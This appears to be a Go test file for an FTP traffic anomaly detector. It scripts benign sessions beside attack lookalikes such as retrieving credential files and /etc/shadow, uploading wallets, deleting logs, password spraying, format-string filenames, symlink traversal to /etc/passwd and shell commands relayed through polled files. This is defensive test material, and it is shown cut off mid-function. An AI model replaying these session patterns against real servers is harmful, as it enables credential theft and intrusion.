// Harmless sessions, each beside the attack that it looks like.

package baseline

import (
	"crypto/sha256"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"ftplab/lab/analysis/baseline/rules"
	"ftplab/lab/internal/forge"
)

// A lookalike has the verdict that it gets. One with no want is an attack, which is not normal by the
// given rule.
type lookalike struct {
	name, rule string
	want       Verdict
	play       func(*forge.Capture)
}

var lookalikes = []lookalike{
	{"an archive that unpacks itself", "no-programs", IsUnusual, anonymousMoves([2]string{"RETR pub/photos.zip.exe", "MZ\x90"})},
	{"programs with points in their names", "no-programs", IsNormal, anonymousMoves([2]string{"RETR pub/setup-1.2.3.exe", "MZ\x90"}, [2]string{"RETR pub/doc.to.pdf.converter.exe", "MZ\x90"})},
	{"digests in a command that nobody knows", "commands-are-ftp", IsNormal, session1(digests(12, "> XDUP %s\n< 200 ok\n> STOR /copies/of/last/night/from/the/office/in/town/and/of/those/who/work/at/home/day-%.4[1]s.zip\n< 150 go on\n< 226 done\n"))},
	{"a copy of the settings of a web site", "no-sensitive-names", IsUnusual, session1("> RETR wp-config.php\n< 150 here\n< 226 done\n> RETR .htpasswd\n< 150 here\n< 226 done\n> RETR .env\n< 150 here\n< 226 done\n> RETR configuration.php\n< 150 here\n< 226 done\n> RETR .my.cnf\n< 150 here\n< 226 done")},
	{"a copy of a home", "no-sensitive-names", IsUnusual, session1("> RETR .aws/credentials\n< 150 here\n< 226 done\n> RETR .netrc\n< 150 here\n< 226 done\n> RETR .kube/config\n< 150 here\n< 226 done\n> RETR .ssh/id_ecdsa\n< 150 here\n< 226 done\n> RETR .bashrc\n< 150 here\n< 226 done\n> RETR .vimrc\n< 150 here\n< 226 done\n> RETR notes.txt\n< 150 here\n< 226 done\n")},
	{"the keys of a person", "no-sensitive-names", "", session1("> RETR .aws/credentials\n< 150 here\n< 226 done\n> RETR .netrc\n< 150 here\n< 226 done\n> RETR .kube/config\n< 150 here\n< 226 done\n> RETR .ssh/id_ecdsa\n< 150 here\n< 226 done\n")},
	{"the keys of a person, which leave his computer", "no-sensitive-names", "", session1("> STOR id_rsa\n< 150 here\n< 226 done\n> STOR safe.kdbx\n< 150 here\n< 226 done\n> STOR wallet.dat\n< 150 here\n< 226 done\n> STOR Login Data\n< 150 here\n< 226 done\n")},
	{"a site that is stored for the first time", "no-sensitive-names", IsUnusual, session1("> SIZE .env\n< 550 no\n> SIZE .htpasswd\n< 550 no\n> SIZE wp-config.php\n< 550 no\n> SIZE web.config\n< 550 no\n> SIZE .my.cnf\n< 550 no\n> STOR index.html\n< 150 go on\n< 226 done\n")},
	{"a search for names of files", "no-sensitive-names", "", session1("> SIZE .env\n< 550 no\n> SIZE .htpasswd\n< 550 no\n> SIZE wp-config.php\n< 550 no\n> SIZE web.config\n< 550 no\n> SIZE .my.cnf\n< 550 no\n")},
	{"the mail of a user", "no-sensitive-names", IsUnusual, session1("> STOR .forward\n< 150 go on\n< 226 done")},
	{"the mail of nobody", "no-sensitive-names", "", anonymous("> STOR .forward\n< 150 go on\n< 226 done")},
	{"certificates that are handed out", "no-sensitive-names", IsUnusual, session1(numberedLines(8, "> RETR host%d.pfx\n< 150 here\n< 226 done\n"))},
	{"a copy whose files have moved", "no-sensitive-names", IsUnusual, session1(numberedLines(8, "> RETR safe%d.kdbx\n< 550 no\n"))},
	{"a search for passwords", "no-sensitive-names", "", session1("> RETR wp-config.php\n< 550 no\n> RETR .htpasswd\n< 550 no\n> RETR .env\n< 550 no\n> RETR configuration.php\n< 150 here\n< 226 done\n> RETR .my.cnf\n< 550 no\n> RETR .git-credentials\n< 550 no")},

	{"a copy of a system", "no-sensitive-names", IsUnusual, func(f *forge.Capture) {
		t := f.Control().Say(hello).Say(numberedLines(60, "> RETR /etc/file%d\n< 150 here\n< 226 done\n"))
		move(t, 40000, "RETR /etc/shadow", shadow)
		t.Say(bye).Peer.Close()
	}},
	{"the passwords of a system", "no-sensitive-names", "", moves([2]string{"RETR /etc/shadow", shadow})},

	{"old logs of other hosts that are removed", "files-are-kept", IsUnusual, session1("> DELE host1/auth.log\n< 250 ok\n> DELE host2/auth.log\n< 250 ok")},
	{"the logs of the system that are removed", "files-are-kept", "", session1("> PWD\n< 257 \"/var/log\"\n> DELE auth.log\n< 250 ok\n> DELE lastlog\n< 250 ok")},

	{"a mirror of a program for many processors", "no-programs", IsUnusual, moves([2]string{"LIST", "tcpdump.arm7"}, [2]string{"RETR tcpdump.arm7", "\x7fELF"}, [2]string{"RETR tcpdump.mips", "\x7fELF"}, [2]string{"RETR tcpdump.sh4", "\x7fELF"}, [2]string{"RETR tcpdump.x86", "\x7fELF"})},
	{"attack tools that a listing shows", "no-programs", IsUnusual, moves([2]string{"LIST", "mimikatz.exe"}, [2]string{"RETR mimikatz.exe", "MZ\x90"}, [2]string{"RETR procdump64.exe", "MZ\x90"}, [2]string{"RETR nc.exe", "MZ\x90"}, [2]string{"RETR PsExec.exe", "MZ\x90"}, [2]string{"RETR AdFind.exe", "MZ\x90"})},
	{"tools for administrators", "no-programs", IsUnusual, moves([2]string{"RETR PsExec.exe", "MZ\x90"}, [2]string{"RETR procdump64.exe", "MZ\x90"})},
	{"attack tools, by their names", "no-programs", "", moves([2]string{"RETR mimikatz.exe", "MZ\x90"}, [2]string{"RETR procdump64.exe", "MZ\x90"}, [2]string{"RETR nc.exe", "MZ\x90"}, [2]string{"RETR PsExec.exe", "MZ\x90"}, [2]string{"RETR AdFind.exe", "MZ\x90"})},
	{"a web site about attack tools", "no-programs", IsUnusual, moves([2]string{"STOR payload/a.js", "let a"}, [2]string{"STOR payload/b.js", "let b"}, [2]string{"STOR payload/c.html", "<html>"}, [2]string{"STOR src/exploit-db.html", "<html>"}, [2]string{"STOR chisel/README", "chisel"})},
	{"attack tools that are stored in their folder", "no-programs", "", moves([2]string{"STOR payload/a.exe", "MZ\x90"}, [2]string{"STOR payload/b", "\x7fELF"}, [2]string{"STOR mimikatz", "x"})},
	{"a release for many processors", "no-programs", IsUnusual, moves([2]string{"STOR agent.arm7", "\x7fELF"}, [2]string{"STOR agent.mips", "\x7fELF"}, [2]string{"STOR agent.sh4", "\x7fELF"}, [2]string{"STOR agent.x86", "\x7fELF"})},
	{"a program for many processors, by name", "no-programs", "", moves([2]string{"RETR a.arm7", "\x7fELF"}, [2]string{"RETR a.mips", "\x7fELF"}, [2]string{"RETR a.sh4", "\x7fELF"}, [2]string{"RETR a.x86", "\x7fELF"})},

	{"a recursive listing with a link", "no-climbing", IsNormal, moved("LIST", answerer, ".:\r\nlrwxrwxrwx 1 0 0 9 Jan 1 2020 latest -> /pub/v2\r\n\r\n./old:\r\ndrwxr-xr-x 2 0 0 9 Jan 1 2020 latest\r\n")},
	{"a user of an AS/400 who comes back", "no-known-exploits", IsUnusual, session1("> RCMD CHGUSRPRF USRPRF(ADA) STATUS(*ENABLED)\n< 250 ok")},

	{"orders that are marked as done", "no-known-exploits", IsNormal, session1(numberedLines(6, "> RETR o%[1]d.xml\n< 150 here\n< 226 done\n> STOR o%[1]d.xml.processed\n< 150 go on\n< 226 done\n> DELE o%[1]d.xml\n< 250 ok\n"))},
	{"letters that are converted", "no-known-exploits", IsNormal, session1(numberedLines(6, "> RETR l%[1]d.doc\n< 150 here\n< 226 done\n> STOR l%[1]d.doc.pdf\n< 150 go on\n< 226 done\n> DELE l%[1]d.doc\n< 250 ok\n"))},
	{"files that get an ending, and a text about it", "no-known-exploits", IsNormal, session1(numberedLines(6, "> RNFR a%[1]d.doc\n< 350 and?\n> RNTO a%[1]d.doc.v2\n< 250 ok\n") + "> STOR README.txt\n< 150 go on\n< 226 done")},
	{"orders that are held to ransom", "no-known-exploits", "", session1(numberedLines(6, "> RETR o%[1]d.xml\n< 150 here\n< 226 done\n> STOR o%[1]d.xml.xyzq\n< 150 go on\n< 226 done\n> DELE o%[1]d.xml\n< 250 ok\n"))},

	{"cameras behind one address, with outdated passwords", "no-guessing", IsUnusual, failures(6, 12, func(i int) (string, string) { return fmt.Sprint("cam", i), fmt.Sprint("Lens-", i*7) })},
	{"cameras that all have the same outdated password", "no-guessing", IsUnusual, failures(6, 24, func(i int) (string, string) { return fmt.Sprint("cam", i), "Lens-42" })},
	{"one password for many names", "no-guessing", "", failures(12, 12, func(i int) (string, string) { return fmt.Sprint("user", i), "Winter2026" })},
	{"stolen names with their passwords", "no-guessing", "", failures(30, 30, func(i int) (string, string) { return fmt.Sprint("user", i), fmt.Sprint("Pass-", i*7) })},
	{"a copy of many servers, with an outdated password", "no-guessing", IsUnusual, func(f *forge.Capture) {
		for i := range 12 {
			dial(f, aClient, fmt.Sprintf("192.0.2.%d:21", i+10)).Say("< 220 hi\n> USER nightly\n< 331 and?\n> PASS Lens-42\n< 530 no" + bye).Close()
		}
	}},

	{"passwords that everybody tries first, at many devices", "no-guessing", "", func(f *forge.Capture) {
		for i := range 12 {
			for _, user := range []string{"admin", "root", "pi"} {
				dial(f, aClient, fmt.Sprintf("192.0.2.%d:21", i+10)).Say("< 220 hi\n> USER " + user + "\n< 331 and?\n> PASS " + user + "\n< 530 no" + bye).Close()
				f.Pass(20 * time.Second)
			}
		}
	}},

	{"a name that was not filled in", "no-format-strings", IsUnusual, session1("> STOR cam_%s_%s_%u_%s.jpg\n< 150 go on\n< 226 done")},
	{"a name with a number that was not filled in", "no-format-strings", IsUnusual, session1("> STOR Result %s of %n.txt\n< 150 go on\n< 226 done")},
	{"a name that writes memory", "no-format-strings", "", session1("> STOR Result of %s%n.txt\n< 150 go on\n< 226 done")},
	{"a name that reads memory", "no-format-strings", "", session1("> STOR %08x.%08x.%08x.%08x\n< 150 go on\n< 226 done")},

	{"an inventory of printers", "no-scans", IsUnusual, func(f *forge.Capture) { anonymously(f, "anonymous", 20, func(*forge.End) {}) }},
	{"a search of a network for anonymous servers", "no-scans", "", func(f *forge.Capture) {
		for i := range 12 {
			refuse(f, aClient, fmt.Sprintf("192.0.2.%d:21", 100+i))
		}
		anonymously(f, "anonymous", 20, func(*forge.End) {})
	}},

	{"a mirror that does not have all digests", "names-are-words", IsUnusual, session1(digests(25, "> SIZE dists/stable/by-hash/SHA256/%s\n< 550 no\n"))},
	{"folders for devices, by the addresses of their network cards", "names-are-words", IsUnusual, session1(numberedLines(25, "> MKD 0050c2ab%02x7f\n< 257 ok\n"))},
	{"the end of a transfer that nobody asked for", "reply-answers-command", IsUnusual, session1("> NOOP\n< 200 ok\n< 226-idle\n+ 226 soon")},
	{"a cache at an unusual port", "names-are-words", IsUnusual, func(f *forge.Capture) {
		dial(f, aClient, aServer+":4444").Say(hello).Say(digests(25, "> SIZE %s\n< 550 no\n")).Say(bye).Peer.Close()
	}},
	{"a store at an unusual port, whose names are base64", "names-are-words", IsUnusual, func(f *forge.Capture) {
		dial(f, aClient, aServer+":4444").Say(hello).Say(numberedLines(9, "> RETR mR7nQ2x%dLp9Vb3Kt8Yw5Zc1HdGj4Fs\n< 550 no\n")).Say(bye).Peer.Close()
	}},
	{"data in names that are numbered", "names-are-words", "", func(f *forge.Capture) {
		var lines strings.Builder
		for i := range 30 {
			sum := sha256.Sum256([]byte{byte(i)})
			fmt.Fprintf(&lines, "> SIZE %02d-%s\n< 550 no\n", i, base32.StdEncoding.EncodeToString(sum[:30]))
		}
		session1(lines.String())(f)
	}},
	{"a text in the names of folders", "names-are-words", "", session1(numberedHex(25, "> CWD %s\n< 550 no\n"))},

	{"a queue of jobs", "files-are-fetched-once", IsUnusual, polled("run.txt", "simulate --seed 7\n", "done\n")},
	{"a queue of jobs at an unusual port", "files-are-fetched-once", IsUnusual, func(f *forge.Capture) {
		dial(f, aClient, aServer+":4444").Say(hello).Say(strings.Repeat("> RETR jobs.txt\n< 150 here\n< 226 done\n", 12)).Say(bye).Peer.Close()
	}},
	{"a queue of numbers", "files-are-fetched-once", IsUnusual, polled("jobs.lst", "id\n17\n18\n", "done\n")},
	{"a shell that is asked who it is", "files-are-fetched-once", "", polled("jobs.lst", "id\n", "dWlk")},
	{"a shell by way of a file", "files-are-fetched-once", "", polled("run.txt", "whoami\r\n", "pc7\\ada\r\n")},
	{"the output of a shell", "files-are-fetched-once", "", polled("news.txt", "aWQK", "uid=0(root) gid=0(root) groups=0(root)\n")},
	{"commands by the name of the file", "files-are-fetched-once", "", polled("cmd.txt", "aWQK", "dWlk")},

	{"a crawler whose folders are gone, and a refused upload", "no-search-for-room", IsUnusual, anonymous(numberedLines(5, "> CWD /mirror%d\n< 550 no\n") + "> STOR stamp\n< 553 no")},
	{"a tree that may not be stored", "no-search-for-room", IsNormal, anonymous(numberedLines(6, "> MKD /site%[1]d\n< 550 no\n> STOR /site%[1]d/a.html\n< 553 no\n"))},
	{"a search for a folder that can be written", "no-search-for-room", "", anonymous(numberedLines(5, "> CWD /d%[1]d\n< 250 ok\n> MKD 040103120000\n< 550 no\n"))},

	{"a NOOP with the time", "control-carries-dialogue", IsNormal, paused(30*time.Second, numberedLines(40, "> NOOP 2026-11-29 13:%02d:07 +0000\n< 200 ok\n"))},
	{"a NOOP with another text each time", "control-carries-dialogue", IsUnusual, paused(30*time.Second, digests(25, "> NOOP %s\n< 200 ok\n"))},
	{"a tunnel of NOOPs", "control-carries-dialogue", "", paused(100*time.Millisecond, digests(25, "> NOOP %s\n< 200 ok\n"))},

	{"a client behind several addresses of a data centre", "data-with-the-partner", IsUnusual, fetchedFrom("10.0.0.5", "10.0.0.6")},
	{"a client with two providers", "data-with-the-partner", IsUnusual, fetchedFrom(aClient, "203.0.113.66")},
	{"a client in a tunnel, with its data beside it", "data-with-the-partner", IsUnusual, fetchedFrom("10.1.1.5", "203.0.113.66")},
	{"a stranger that is faster than the client", "data-with-the-partner", "", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		download(f, "203.0.113.66", aServer+":25600", answerer, 100)
		refuse(f, aClient, aServer+":25600")
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},

	{"a PORT with a comma too many", "announcement-well-formed", IsUnusual, session1("> PORT 198,51,100,100,12,100,\n< 200 ok\n> LIST\n< 150 here\n< 226 done")},
	{"a PORT with twelve numbers", "announcement-well-formed", "", session1("> PORT 198,51,100,100,31,64,7,8,9,10,11,12\n< 200 ok")},

	{"a server that refuses all commands, of which only the replies are seen", "no-guessing", IsNormal, func(f *forge.Capture) {
		overhear(f, aClient, aServer+":21").Say("< 220 ready\n< 331 and?\n< 530 Login incorrect." + strings.Repeat("\n< 530 Please login with USER and PASS.", 14) + "\n< 221 bye")
	}},
	{"guesses of which only the replies are seen", "no-guessing", "", func(f *forge.Capture) {
		overhear(f, aClient, aServer+":21").Say("< 220 ready" + strings.Repeat("\n< 331 and?\n< 530 Login incorrect.", 14) + "\n< 221 bye")
	}},

	{"a client of Java, which opens all connections by EPSV", "reply-fits-command", IsNormal, session1("> EPSV ALL\n< 220 Active mode is disabled")},
	{"220 in the place of a port", "reply-fits-command", "", session1("> EPSV\n< 220 Active mode is disabled")},
	{"Pure-FTPd, whose download is broken off", "reply-fits-command", IsNormal, session1("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150-Accepted data connection\n+ 150 3071.0 kbytes to download\n> ABOR\n< 150 0.103 seconds (measured here), 7.32 Mbytes per second\n< 226 Since you see this ABOR must've succeeded")},

	{"an abbreviation, in four ways by two clients", "control-carries-dialogue", IsNormal, func(f *forge.Capture) {
		session1("> NOOP\n< 200 ok\n> Noop\n< 200 ok")(f)
		session1("> noop\n< 200 ok\n> noOp\n< 200 ok")(f)
	}},
	{"folders named by digests", "control-carries-dialogue", IsNormal, session1(digests(8, "> PWD\n< 257 \"/%s\" is current\n"))},
	{"types that change for each file", "preparations-are-used", IsNormal, session1(numberedLines(40, "> TYPE A\n< 200 ok\n> LIST\n< 150 here\n< 226 done\n> TYPE I\n< 200 ok\n> RETR f%d\n< 150 here\n< 226 done\n"))},
	{"names in Persian, and a family", "names-can-be-seen", IsNormal, session1("> STOR می\u200cخواهم و نمی\u200cدانم.txt\n< 150 go on\n< 226 done\n> STOR 👨\u200d👩\u200d👧.jpg\n< 150 go on\n< 226 done")},
	{"colours in a greeting", "reply-of-normal-length", IsNormal, dialogue("< 220-\x1b[1;34mWelcome\x1b[0m\n+ 220 ready\n> USER a\n< 331 and?\n> PASS b\n< 230 in\n> QUIT\n< 221 bye")},
	{"a package's folders", "arguments-of-normal-length", IsNormal, session1(numberedLines(20, "> MKD d%[1]d\n< 257 ok\n> CWD d%[1]d\n< 250 ok\n"))},
	{"files that their owner signs and encrypts", "no-known-exploits", IsNormal, session1(numberedLines(6, "> RETR a%[1]d.csv\n< 150 here\n< 226 done\n> STOR a%[1]d.csv.2026-03.gpg\n< 150 go on\n< 226 done\n> DELE a%[1]d.csv\n< 250 ok\n"))},
	{"logs that are fetched before they are removed", "files-are-kept", IsNormal, session1("> RETR wtmp\n< 150 here\n< 226 done\n> DELE wtmp\n< 250 ok\n> RETR lastlog\n< 150 here\n< 226 done\n> DELE lastlog\n< 250 ok")},
	{"a home folder with its histories", "files-are-kept", IsUnusual, session1("> DELE .bash_history\n< 250 ok\n> DELE .zsh_history\n< 250 ok")},
	{"a printer's fonts", "no-loot", IsNormal, moved("STOR a.prn", opener, "\x1b%-12345X@PJL FSDOWNLOAD NAME=\"0:/fonts/a.ttf\" SIZE=9\r\n")},
	{"a script that types", "no-loot", IsNormal, moved("STOR fill.ahk", opener, "Send, ada{TAB}x{ENTER}{TAB}{ENTER}\r\n")},
	{"a list of broken bars", "no-climbing", IsNormal, moved("LIST", answerer, "-rw-r--r-- 1 0 0 5 Jan 01 2024 a | b.txt\r\n-rw-r--r-- 1 0 0 5 Jan 01 2024 $(name).tmpl\r\n")},

	{"a report to those who help", "no-sensitive-names", IsNormal, session1("> STOR system_info.txt\n< 150 go on\n< 226 done\n> STOR processes.txt\n< 150 go on\n< 226 done\n> STOR installed_software.txt\n< 150 go on\n< 226 done\n> STOR screenshot.png\n< 150 go on\n< 226 done")},
	{"NOOPs of a person who computes", "control-carries-dialogue", IsNormal, paused(time.Second, strings.Repeat("> NOOP\n< 200 ok\n", 40))},
	{"a server behind NAT whose private address nobody answers", "own-address", IsNormal, func(f *forge.Capture) {
		t := dial(f, "10.9.0.8", aServer+":21").Say(hello).Say("> PASV\n< 227 (10,9,0,5,200,3)\n> STOR a\n< 150 go on")
		download(f, "10.9.0.8", aServer+":51203", opener, 55)
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"a client behind NAT, whose server asks for PASV instead", "own-address", IsUnusual, session1("> PORT 192,168,1,5,156,65\n< 200 ok\n> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done")},
	{"a client in a tunnel that changes its mind", "own-address", IsUnusual, func(f *forge.Capture) {
		dial(f, "192.168.1.5", aServer+":21").Say(hello).Say("> PORT 10,8,0,6,156,65\n< 200 ok").Say(bye).Close()
	}},
	{"an office behind one address", "own-address", IsUnusual, func(f *forge.Capture) {
		for i := range 5 {
			session1(fmt.Sprintf("> PORT 192,168,1,%d,156,65\n< 500 illegal\n> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here\n< 226 done", 10+i))(f)
		}
	}},
	{"a server that tries the private address of its client", "own-address", IsUnusual, func(f *forge.Capture) {
		t := dial(f, "203.0.113.5", "10.0.0.2:21").Say(hello).Say("> PORT 192,168,1,5,156,65\n< 200 ok\n> LIST")
		refuse(f, "10.0.0.2:20", "192.168.1.5:40001")
		t.Say("< 425 no").Say(bye).Peer.Close()
	}},
	{"empty files that mark digests as done", "names-are-words", IsNormal, func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range 5 {
			move(t, 40000+2*i, fmt.Sprintf("STOR order%d.xml", i), "<order/>")
			move(t, 40001+2*i, fmt.Sprintf("STOR order%d.xml.done", i), "")
		}
		t.Say(bye).Peer.Close()
	}},

	{"files of the same name in many folders", "uploads-differ", IsNormal, session1("> CWD /\n< 250 ok\n" + numberedLines(9, "> CWD /d%d\n< 250 ok\n> STOR README\n< 150 go on\n< 226 done\n> STOR index.md\n< 150 go on\n< 226 done\n") + "> STOR passwords.md\n< 150 go on\n< 226 done")},
	{"one file again and again, by its path and its name", "no-signs-agree", IsUnusual, session1("> CWD /d\n< 250 ok\n" + strings.Repeat("> STOR /d/passwords.md\n< 150 go on\n< 226 done\n> STOR passwords.md\n< 150 go on\n< 226 done\n", 3))},
	{"the sources of a compiler", "no-programs", IsUnusual, session1(numberedLines(20, "> STOR /d%[1]d/main.go\n< 150 go on\n< 226 done\n") + strings.Repeat("> STOR notes.txt\n< 150 go on\n< 226 done\n", 5) + "\n> STOR backdoor.go\n< 150 go on\n< 226 done")},
	{"a compiler for C of 1999", "no-programs", IsNormal, session1("> STOR c99-gcc.1.gz\n< 150 go on\n< 226 done")},
	{"a web shell by its name", "no-programs", IsUnusual, session1("> STOR c99.php\n< 150 go on\n< 226 done")},
	{"a mirror with a link to settings", "no-known-exploits", IsNormal, session1("> SITE SYMLINK /etc/wireshark/init.lua /srv/init.lua\n< 500 no")},
	{"a folder whose files have times", "no-sensitive-names", IsUnusual, session1("> CWD /etc\n< 250 ok\n" + numberedLines(60, "> MDTM a%d\n< 213 20260301120000\n") + "> MDTM shadow\n< 213 20260301120000")},
	{"the time of the passwords", "no-sensitive-names", "", session1("> CWD /etc\n< 250 ok\n> MDTM shadow\n< 213 20260301120000")},
	{"a file that steers the system", "no-sensitive-names", IsUnusual, session1("> STOR /proc/sys/kernel/core_pattern\n< 150 go on\n< 226 done")},
	{"what a system tells about itself", "no-sensitive-names", IsNormal, session1("> RETR /proc/cpuinfo\n< 150 here\n< 226 done\n> RETR /sys/class/thermal/thermal_zone0/temp\n< 150 here\n< 226 done")},
	{"a test of speed", "no-sensitive-names", IsNormal, session1("> RETR /dev/zero\n< 150 here\n< 426 broken off\n> STOR /dev/null\n< 150 go on\n< 226 done")},
	{"folders named after devices", "no-sensitive-names", IsNormal, session1("> RETR /srv/dev/mem\n< 150 here\n< 226 done\n> CWD dev\n< 250 ok\n> RETR sda\n< 150 here\n< 226 done")},
	{"the sources in a folder of developers", "no-sensitive-names", IsNormal, session1("> STOR /dev/mapper/UserMapper.java\n< 150 go on\n< 226 done\n> RETR /dev/disk/image.iso\n< 150 here\n< 226 done\n> RETR /dev/mapper/sql/Users\n< 150 here\n< 226 done")},
	{"a text that begins like a program", "no-programs", IsNormal, moved("RETR cities.csv", answerer, "MZ;Mainz;219501\r\nK;Köln;1087353\r\n")},
	{"the icon of a folder on macOS", "arguments-are-text", IsNormal, session1("> STOR Icon\r\n< 150 go on\n< 226 done")},
	{"lines that end with LF alone", "arguments-are-text", IsNormal, func(f *forge.Capture) {
		t := f.Control().Say("< 220 ready")
		t.Segment("P.", "USER ada\nPASS x\n")
		t.Say("< 331 and?\n< 230 in")
		t.Segment("P.", "QUIT\n")
		t.Say("< 221 bye").Peer.Close()
	}},
	{"a cursor key that is typed", "arguments-are-text", IsNormal, session1("> CWD \x1b[A\n< 550 no")},
	{"a server that is full", "server-greets-first", IsNormal, dialogue("< 421 too many users")},
	{"a server that lets nobody in from there", "server-greets-first", IsNormal, dialogue("< 530 not from there")},
	{"a server that needs a moment", "server-greets-first", IsNormal, dialogue("< 120 ready in 1 minute\n< 220 ready\n> QUIT\n< 221 bye")},

	{"help with keys", "no-loot", IsNormal, moved("STOR help.txt", opener, "Press <Tab> and <Enter>, or <Shift><Tab>. <Ctrl> is not needed.\r\n")},

	{"a mirror with links from folder to folder", "no-climbing", IsNormal, session1("> SITE SYMLINK ../../../php/getid3/getid3.lib.php /srv/wp/ID3/getid3.lib.php\n< 500 no")},
	{"a link to everything", "no-climbing", "", session1("> SITE SYMLINK ../../../../../ all\n< 200 ok")},
	{"a link to the users", "no-climbing", "", session1("> SITE SYMLINK ../../../etc/passwd notes\n< 200 ok")},

	{"a copy of Git's programs", "no-sensitive-names", IsNormal, session1(numberedLines(32, "> RETR git-%d.exe\n< 150 here\n< 226 done\n") + "> RETR git-credential\n< 150 here\n< 226 done\n> RETR git-credential-cache\n< 150 here\n< 226 done\n> RETR git-credential-store\n< 150 here\n< 226 done")},
	{"the passwords in a copy", "no-signs-agree", "", session1(numberedLines(9, "> RETR a%d.exe\n< 150 here\n< 226 done\n") + "> RETR passwords.txt\n< 150 here\n< 226 done")},

	{"AUTH offered, and no certificate", "credentials-in-tls", IsUnusual, refusedTLS("ada", "431 cannot begin TLS")},
	{"AUTH offered and refused, without a password", "credentials-in-tls", IsNormal, refusedTLS("anonymous", "502 no")},
	{"AUTH offered and refused, in other words than those of IIS", "credentials-in-tls", IsUnusual, refusedTLS("ada", "534 no")},
	{"AUTH offered and not implemented", "credentials-in-tls", IsUnusual, refusedTLS("ada", "502 no")},
	{"AUTH refused in the words of Pure-FTPd", "credentials-in-tls", IsNormal, refusedTLS("ada", noScheme)},
	{"AUTH refused in the words of Pure-FTPd, by vsftpd", "credentials-in-tls", IsUnusual, func(f *forge.Capture) {
		f.Control().Say("< 220 (vsFTPd 3.0.3)\n> FEAT\n< 211-Features:\n+  AUTH TLS\n+ 211 End").Say(refusal(noScheme)).Close()
	}},
	{"AUTH refused in the words of IIS, with other features than those of IIS", "credentials-in-tls", IsUnusual, refusedTLS("ada", "534 Local policy on server does not allow TLS secure connections.")},
	{"AUTH refused in the words of Pure-FTPd, and accepted in another session", "credentials-in-tls", IsUnusual, func(f *forge.Capture) {
		refusedTLS("ada", noScheme)(f)
		inTLS(f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).Close()
	}},
	{"AUTH refused, and accepted in another session", "credentials-in-tls", IsUnusual, func(f *forge.Capture) {
		inTLS(f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).Close()
		f.Control().Say("< 220 ready").Say(refusal("500 what?")).Close()
	}},
	{"AUTH refused, and accepted by another server", "credentials-in-tls", IsNormal, func(f *forge.Capture) {
		inTLS(dial(f, aClient, "192.0.2.22:21").Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).Close()
		f.Control().Say("< 220 ready").Say(refusal("500 what?")).Close()
	}},
	{"AUTH refused, and accepted in another session, without a password", "credentials-in-tls", IsNormal, func(f *forge.Capture) {
		inTLS(f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).Close()
		f.Control().Say("< 220 ready\n> AUTH TLS\n< 500 what?\n> QUIT\n< 221 bye").Close()
	}},

	{"a time that was set", "reply-fits-command", IsNormal, session1("> MFMT 20150215120000 a\n< 253 Date/time changed okay")},
	{"a time that was set, and a listing in front of it", "reply-fits-command", IsUnusual, session1("> MFMT 20150215120000 a\n< 150 here\n< 213 ok")},
}

// shadow has the passwords of a system.
var shadow = "root:$6$Xa9kQ2$" + strings.Repeat("h/B", 28) + ":19000:0:99999:7:::\n"

// failures are so many failed logins of one client, one a second, with n names in turn.
func failures(n, all int, login func(i int) (user, password string)) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for i := range all {
			user, password := login(i % n)
			wrongPassword(f, aClient, user, password)
			f.Pass(time.Second)
		}
	}
}

// digests fills the digests of numbers into a line.
func digests(n int, line string) string {
	var b strings.Builder
	for i := range n {
		sum := sha256.Sum256([]byte{byte(i)})
		fmt.Fprintf(&b, line, hex.EncodeToString(sum[:]))
	}
	return b.String()
}

// numberedHex fills numbered texts into a line, as hexadecimal digits.
func numberedHex(n int, line string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, line, hex.EncodeToString(fmt.Appendf(nil, "the %d. part", i)))
	}
	return b.String()
}

// polled is a client that fetches a file twelve times, and stores an answer each time.
func polled(name, order, answer string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range 12 {
			move(t, 40000+2*i, "RETR "+name, order)
			move(t, 40001+2*i, fmt.Sprintf("STOR answer%d.txt", i), answer)
		}
		t.Say(bye).Peer.Close()
	}
}

// paused is a session of lines with a pause in front of each command.
func paused(pause time.Duration, lines string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for _, exchange := range strings.SplitAfter(lines, "ok\n") {
			f.Pass(pause)
			if exchange != "" {
				t.Say(exchange)
			}
		}
		t.Say(bye).Peer.Close()
	}
}

// fetchedFrom is a session of one address with a download by another one.
func fetchedFrom(client, other string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := dial(f, client, aServer+":21").Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		download(f, other, aServer+":25600", answerer, 55)
		t.Say("< 226 done").Say(bye).Peer.Close()
	}
}

// refusedTLS is a session in clear with a server that offers TLS and then refuses it.
func refusedTLS(user, reply string) func(*forge.Capture) {
	return dialogue("< 220 ready\n> FEAT\n< 211-Features:\n+  AUTH TLS\n+ 211 End\n> AUTH TLS\n< " + reply + "\n> USER " + user + "\n< 331 and?\n> PASS x\n< 230 in")
}

// noScheme is what Pure-FTPd says to AUTH TLS without a certificate.
const noScheme = "500 This security scheme is not implemented"

// refusal is a refused AUTH TLS and a login in clear.
func refusal(reply string) string {
	return "> AUTH TLS\n< " + reply + "\n> USER ada\n< 331 and?\n> PASS x\n< 230 in"
}

func TestLookalikes(t *testing.T) {
	for _, test := range slices.Concat(lookalikes, intruders, behaviours, nearby, steering, disturbed, elsewhere, absent, collected, hidden, websites, carriedOff, upkeep, gravest, doubts) {
		t.Run(test.name, func(t *testing.T) {
			got := forged(t, test.play)
			switch violations := count(got, test.rule, rules.Violation); {
			case test.want == "":
				if violations == 0 {
					t.Errorf("got %v\nwant %s, for %s", got, NotNormal, test.rule)
				}
